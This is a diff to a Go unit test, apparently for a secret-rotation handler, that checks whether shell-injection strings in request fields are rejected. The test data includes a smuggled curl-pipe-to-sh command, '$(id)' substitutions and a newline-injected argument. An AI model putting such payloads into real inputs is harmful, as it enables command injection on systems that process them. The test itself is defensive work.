@@ -75,10 +75,16 @@ func TestAnEventOfSomebodyElseIsRefused(t *testing.T) {
 
 func TestNothingOfAnEventButANameGetsIntoACommand(t *testing.T) {
 	inAccount(t, func(t *testing.T, a *account) {
-		for _, id := range []string{"x; curl https://example.com | sh #", "$(id)", "x\n--region y", "ü"} {
-			err := a.rotator.Handle(t.Context(), slog.New(slog.DiscardHandler), rotation.Request{Step: rotation.CreateSecret, SecretID: id, VersionID: "new"})
-			if !errors.Is(err, rotation.BadEvent) || strings.Contains(err.Error(), id) {
-				t.Errorf("SecretId %q: %v", id, err)
+		for _, text := range []string{"x; curl https://example.com | sh #", "$(id)", "a$(id)b", "x\n--region y", "ü"} {
+			for part, req := range map[string]rotation.Request{
+				"Step":               {Step: rotation.Step(text), SecretID: arn, VersionID: "new"},
+				"SecretId":           {Step: rotation.CreateSecret, SecretID: text, VersionID: "new"},
+				"ClientRequestToken": {Step: rotation.CreateSecret, SecretID: arn, VersionID: text},
+			} {
+				err := a.rotator.Handle(t.Context(), slog.New(slog.DiscardHandler), req)
+				if !errors.Is(err, rotation.BadEvent) || !strings.Contains(err.Error(), part) || strings.Contains(err.Error(), text) {
+					t.Errorf("%s %q: %v", part, text, err)
+				}
 			}
 		}
 		if len(a.calls) > 0 {
